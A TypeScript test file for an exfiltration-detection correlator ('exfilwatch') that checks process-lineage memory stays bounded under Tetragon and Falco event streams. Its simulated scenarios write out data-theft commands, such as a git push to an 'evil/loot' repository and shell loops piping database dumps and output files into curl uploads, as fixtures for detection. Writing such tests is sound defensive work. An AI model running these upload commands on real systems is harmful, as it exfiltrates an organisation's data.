/**
 * Bounded memory for lineage (issue 8: memory bounded and flat). A process that left the tables (expired, evicted
 * by caps.maxProcesses, replaced under its pid) stayed reachable through a live descendant's `.parent`, and a
 * parent's `lastChild` held its last child: a 40,000-deep exec chain under one live process kept all 40,000
 * states (11 MB; bench/children/lineage-chain-memory.ts) the caps were to bound. ProcState.drop cuts both; the
 * checks reading lineage answer as before (test/unit/correlate/pipeline.test.ts, tar-extraction-*.test.ts,
 * helper-parent.test.ts).
 *
 * Counted with v8.queryObjects: the ProcState objects still reachable (after a full collection) while the
 * correlator is alive.
 */
import { queryObjects } from 'node:v8';
import { describe, expect, it } from 'vitest';
import type { CorrelatorEngine } from '../../../src/correlate/index.js';
import { ProcState } from '../../../src/correlate/proc-state.js';
import type { Alert } from '../../../src/model/alert.js';
import type { ActivityEvent, NormalizedEvent } from '../../../src/model/normalized-event.js';
import { brief, counterValue, MiB, makeCorrelator, type Proc, Scenario } from './builder.js';

const DEPTH = 5_000;

function liveProcStates(): number {
  return queryObjects(ProcState, { format: 'count' });
}

/**
 * The ProcStates reachable now beyond `before`, with `correlator` alive: a correlator no longer used is garbage
 * itself, and counting after it is collected finds none held whatever the code (a script counting so found 0 in
 * one run of the scenario of `evictedStdinPushers` before its fix, 1,064 in the next).
 */
function heldBy(correlator: CorrelatorEngine, before: number): number {
  const held = liveProcStates() - before;
  if (correlator.trackedContainers() === 0) throw new Error('the correlator tracks nothing: nothing to hold');
  return held;
}

/**
 * As the pipeline feeds it (app.ts correlateLoop): batches of 1,024, a turn of the event loop between them. The TTL
 * sweep runs between batches (in one `ingest` call of 10,000 events no pass completes); and a push held only weakly
 * (ProcState.pipeEp) can be collected once the job that made or read the reference has ended.
 */
async function ingestInBatches(correlator: CorrelatorEngine, events: readonly NormalizedEvent[]): Promise<Alert[]> {
  const alerts: Alert[] = [];
  for (let i = 0; i < events.length; i += 1024) {
    alerts.push(...correlator.ingest(events.slice(i, i + 1024)));
    await new Promise<void>((resolve) => setImmediate(resolve));
  }
  return alerts;
}

/**
 * `sh → sh → … → sh` DEPTH deep under the container's init, each exec'd by the one before; `exits`: each exits
 * 100 ms after its child's exec, else none does. Either way the links leave the tables (expired or evicted by
 * the cap). The init reads now and then. The last one pushes what it read.
 */
function deepChain(source: 'tetragon' | 'falco', exits: boolean): Scenario {
  const s = new Scenario({ source });
  const c = s.container();
  const init = s.init(c);
  let parent: Proc = init;
  for (let i = 0; i < DEPTH; i++) {
    if (i % 50 === 0) s.read(init, '/srv/app/config.yaml', 100);
    const child = s.exec(c, '/bin/sh', `-c "exec sh /opt/step-${i}.sh"`, { parent });
    s.wait(exits ? 100 : 5);
    if (exits && i > 0) s.exit(parent);
    s.wait(exits ? 100 : 5);
    parent = child;
  }
  s.readMany(parent, '/srv/export', 20, 5 * MiB);
  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent });
  const url = 'https://github.com/evil/loot.git';
  const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', `${url} ${url}`, { parent: git });
  s.connect(helper, '140.82.112.3', 443).send(helper, '140.82.112.3', 443, 100 * MiB);
  return s;
}

describe.each(['tetragon', 'falco'] as const)('a deep exec chain under one live process (%s)', (source) => {
  for (const exits of [true, false]) {
    const how = exits ? 'its links exited' : 'its links running';
    it(`holds a bounded number of process states, not the chain: ${how}`, async () => {
      // Exited: the default cap (20,000), never reached: the links expire (640 in the table at most), the init stays.
      const maxProcesses = exits ? 20_000 : 1_000;
      const { correlator } = makeCorrelator({ config: { caps: { maxProcesses } } });
      const s = deepChain(source, exits);
      const before = liveProcStates();
      const alerts = await ingestInBatches(correlator, s.events);
      // The table's processes, a node's 64 recent execs, the push's and their parents: not the 5,000.
      const held = heldBy(correlator, before);
      expect(held).toBeLessThanOrEqual(exits ? 1_000 : maxProcesses + 100);
      // The push at the end of the chain is recognised through its helper's parent as before.
      alerts.push(...correlator.flush());
      expect(brief(alerts)).toEqual([
        { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
      ]);
    });
  }
});

/**
 * Falco keys processes by pid: `sh → sh → … → sh` DEPTH deep where each link, once exited, has its pid taken by
 * a new process (`/bin/true` under the init), which replaces it in the node's table. A replaced link is never swept,
 * so it lets go of its parent when replaced or the chain stays reachable from the last link.
 */
function pidReusingChain(): Scenario {
  const s = new Scenario({ source: 'falco' });
  const c = s.container();
  const init = s.init(c);
  let parent: Proc = init;
  for (let i = 0; i < DEPTH; i++) {
    if (i % 50 === 0) s.read(init, '/srv/app/config.yaml', 100);
    const child = s.exec(c, '/bin/sh', `-c "exec sh /opt/step-${i}.sh"`, { parent });
    s.wait(100);
    if (i > 0) {
      s.exit(parent).wait(1);
      const reuser = s.exec(c, '/bin/true', '', { parent: init });
      (s.events[s.events.length - 1] as ActivityEvent).process.pid = parent.pid;
      s.wait(1).exit({ ...reuser, pid: parent.pid });
    }
    s.wait(100);
    parent = child;
  }
  return s;
}

it('a chain whose links are replaced under their pids (falco) holds a bounded number of process states', async () => {
  const { correlator } = makeCorrelator();
  const s = pidReusingChain();
  const before = liveProcStates();
  await ingestInBatches(correlator, s.events);
  // 5,439 held when a replaced link keeps its parent (newProc setting only `dropped`).
  expect(heldBy(correlator, before)).toBeLessThanOrEqual(1_000);
});

/**
 * `for f in …; do cat $f | curl -T - URL & sleep 1.2; done`: each curl, a stdin push, runs 1.5 s, so the next is
 * exec'd under the same shell while it still runs, more than PIPE_LEAD_MS later: a late producer of its pipeline
 * (pipeline.ts noteExec, `rare.pipeEp`), and a push of its own. Push k held curl k, whose pipeEp held push k-1.
 */
function overlappingStdinPushes(source: 'tetragon' | 'falco'): Scenario {
  const s = new Scenario({ source });
  const c = s.container();
  const init = s.init(c);
  const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets';
  const sh = s.exec(c, '/bin/sh', `-c "for f in /srv/out/*; do cat $f | curl -T - ${url} & sleep 1.2; done"`, {
    parent: init,
  });
  let previous: Proc | null = null;
  for (let i = 0; i < DEPTH / 2; i++) {
    if (i % 50 === 0) s.read(sh, '/srv/app/config.yaml', 100);
    const curl = s.exec(c, '/usr/bin/curl', `-sS -T - ${url}?name=part-${i}.tgz`, { parent: sh });
    s.wait(300);
    if (previous !== null) s.exit(previous);
    s.wait(900);
    previous = curl;
  }
  return s;
}

describe.each(['tetragon', 'falco'] as const)('overlapping stdin pushes under one shell (%s)', (source) => {
  it('hold a bounded number of process states, not every pusher since the first', async () => {
    const { correlator } = makeCorrelator();
    const s = overlappingStdinPushes(source);
    const before = liveProcStates();
    await ingestInBatches(correlator, s.events);
    // The pushers not yet expired and the node's recent execs: not the 2,500 (2,501 held before the cut).
    expect(heldBy(correlator, before)).toBeLessThanOrEqual(1_000);
  });
});

describe('a stdin push whose process left the tables', () => {
  it('tetragon: (sleep 11; cat data) | curl -T - URL, curl evicted before cat starts: cat is still its pipeline → high', async () => {
    const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d.tgz';
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxProcesses: 4 } } });
    const s = new Scenario();
    const c = s.container();
    const init = s.init(c);
    // The table's first entry, the first evicted once every entry is hot.
    s.exec(c, '/usr/sbin/crond', '-f', { parent: init });
    const sh = s.exec(c, '/bin/sh', `-c "(sleep 11; cat /srv/db/orders.dump) | curl -T - ${url}"`, { parent: init });
    s.wait(5);
    const pushAt = s.now;
    s.exec(c, '/usr/bin/curl', `-sS -T - ${url}`, { parent: sh });
    const filler = () => s.exec(c, '/bin/true', '', { parent: init });
    filler();
    // The table full: every entry's CLOCK bit cleared, crond evicted.
    filler();
    // The shell stays in the table (hot: its exec reported again), curl goes (cold, first in line).
    const shExec = s.events.find((e) => e.kind === 'exec' && e.process.execId === sh.execId)!;
    s.events.push({ ...shExec, timeMs: s.now + 1, time: new Date(s.now + 1).toISOString() });
    s.wait(2);
    filler();
    // The subshell is a fork of sh without exec: Tetragon reports its children under the shell's exec id.
    const subshell: Proc = { ...sh, pid: sh.pid + 50_000 };
    const cat = s.exec(c, '/bin/cat', '/srv/db/orders.dump', { parent: subshell, at: pushAt + 11_010 });
    for (let i = 0; i < 50; i++) s.read(cat, `/srv/db/part-${i}`, 2 * MiB, { at: pushAt + 11_100 + i * 400 });
    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'process' })).toBeGreaterThanOrEqual(
      3,
    );
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'curl', destination: 'uploads.github.com' },
    ]);
    expect(alerts[0]!.reads.bytes).toBe(100 * MiB);
  });
});

/**
 * caps.maxNodes (processes.ts evictNode): NODES Falco nodes, one after another, each with a container whose init
 * execs a chain of running `sh` links NODE_DEPTH deep; the cap keeps 4 nodes. An evicted node's processes leave the
 * tables with it, but its container stays (its own cap and TTL): the container's last process (`lastProc`) and the
 * node's recent execs held every link above them through `.parent` until evictNode dropped them.
 */
const NODES = 30;
const NODE_DEPTH = 500;

function chainPerNode(): Scenario {
  const s = new Scenario({ source: 'falco' });
  for (let n = 0; n < NODES; n++) {
    const c = s.container({ node: `node-${n}` });
    const init = s.init(c);
    s.read(init, '/srv/app/config.yaml', 100);
    let parent: Proc = init;
    for (let i = 0; i < NODE_DEPTH; i++) {
      parent = s.exec(c, '/bin/sh', `-c "exec sh /opt/step-${i}.sh"`, { parent });
      s.wait(10);
    }
    s.read(parent, '/srv/app/config.yaml', 100);
  }
  return s;
}

it('nodes evicted by caps.maxNodes let go of their processes: a bounded number of process states (falco)', async () => {
  const { correlator, metrics } = makeCorrelator({ config: { caps: { maxNodes: 4 } } });
  const s = chainPerNode();
  const before = liveProcStates();
  await ingestInBatches(correlator, s.events);
  expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'node' })).toBe(NODES - 4);
  // The 4 nodes in the table (2,000 links), and each evicted node's last link and 64 recent execs: 3,668 held;
  // 15,030 held when evictNode only marked its processes dropped.
  expect(heldBy(correlator, before)).toBeLessThanOrEqual(5_000);
});

/**
 * The same loop with each curl running past the next (`sleep 11`: the container's pending list never fills, so no
 * push is judged early) under a cap of 16 processes, `/bin/true`s evicting each curl within its first second. A curl
 * evicted is never seen to exit: every later curl under the shell joins the oldest pending push as its late
 * producer, and is itself evicted while that push pends, so its drop cannot let go of it. Push k held curl k, which
 * held the push it fed, whose curl held the one before: every push since the first stayed reachable.
 */
function evictedStdinPushers(source: 'tetragon' | 'falco', pushes: number): Scenario {
  const s = new Scenario({ source });
  const c = s.container();
  const init = s.init(c);
  const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets';
  s.read(init, '/srv/app/config.yaml', 100);
  const sh = s.exec(c, '/bin/sh', `-c "for f in /srv/out/*; do cat $f | curl -T - ${url} & sleep 11; done"`, {
    parent: init,
  });
  for (let i = 0; i < pushes; i++) {
    s.exec(c, '/usr/bin/curl', `-sS -T - ${url}?name=part-${i}.tgz`, { parent: sh });
    s.wait(100);
    for (let f = 0; f < 40; f++) {
      // The shell and the init stay hot (read now and then), the curl goes cold and is evicted.
      if (f % 4 === 0) s.read(sh, '/srv/app/config.yaml', 100).read(init, '/srv/app/config.yaml', 100);
      const filler = s.exec(c, '/bin/true', '', { parent: init });
      s.wait(2).exit(filler);
    }
    s.wait(10_620);
  }
  return s;
}

describe.each(['tetragon', 'falco'] as const)('stdin pushers evicted while the push they feed pends (%s)', (source) => {
  it('hold a bounded number of process states, not every pusher since the first', async () => {
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxProcesses: 16 } } });
    const s = evictedStdinPushers(source, 500);
    const before = liveProcStates();
    await ingestInBatches(correlator, s.events);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'process' })).toBeGreaterThan(500);
    // The table, the node's recent execs and the pending pushes' pushers: 564 held (every curl) before.
    expect(heldBy(correlator, before)).toBeLessThanOrEqual(250);
  });
});
